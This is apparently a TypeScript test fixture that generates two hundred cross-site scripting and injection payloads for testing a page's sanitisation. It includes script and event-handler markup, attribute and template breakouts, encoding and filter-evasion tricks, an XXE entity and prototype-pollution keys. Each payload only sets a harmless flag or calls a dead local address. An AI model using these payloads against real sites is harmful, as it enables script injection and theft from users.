/**
 * Two hundred texts that run a script, or ask for an address, where a page takes a text for markup, an attribute, a style, a
 * script or an address. Those that run anything set `harmed` on the window; those that ask for something ask OUTSIDE.
 */

/** Nothing answers there; a test sees who asks. */
export const OUTSIDE = 'http://127.0.0.1:9/harm';

const RUN = 'top.harmed=1';

/** Ways in which a script is run by markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${OUTSIDE}.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${OUTSIDE}.png">`,
  `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><image href="${OUTSIDE}.svg"/></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${OUTSIDE}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${OUTSIDE}"></object>`,
  `<embed src="${OUTSIDE}.swf">`,
  `<video src=x onerror=${RUN}></video>`,
  `<video poster="${OUTSIDE}.jpg"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import "${OUTSIDE}.css";</style>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href="${OUTSIDE}.css">`,
  `<link rel=prefetch href="${OUTSIDE}">`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `<base href="${OUTSIDE}/">`,
  `<form action="${OUTSIDE}"><input type=submit autofocus onfocus=this.form.submit()></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="${OUTSIDE}" ping="${OUTSIDE}">click</a>`,
  `<div style="background:url(${OUTSIDE}.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} tabindex=1 id=x>click</x>`,
] as const;

/** What closes the place that a text may stand in, before what comes after it. */
const BREAKOUTS = ['', '">', "'>", '--><!-- ', '</script>', '</title></style></textarea>'] as const;

/** For places that are no markup: attributes, scripts, styles, addresses, templates. */
const ELSEWHERE = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\\tscript:${RUN}`,
  ` javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus x='`,
  `\` onmouseover=${RUN}`,
  `" style="background:url(${OUTSIDE})"`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `);${RUN};(`,
  `}</style><img src=x onerror=${RUN}>`,
  `url(${OUTSIDE})`,
  `expression(${RUN})`,
  `]]><img src=x onerror=${RUN}>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${OUTSIDE}">]><x>&e;</x>`,
  '__proto__',
  'constructor',
  'toString',
  `__proto__[harmed]=1`,
  `${OUTSIDE}`,
  `//127.0.0.1:9/harm`,
  `[x](javascript:${RUN})`,
  `![x](${OUTSIDE})`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<a href="\\x0Bjavascript:${RUN}">x</a>`,
] as const;

/** Every payload once: each way of markup after each breakout until there are two hundred with the others. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...ELSEWHERE,
    ...BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => `${breakout}${markup}`)),
  ]),
].slice(0, 200);
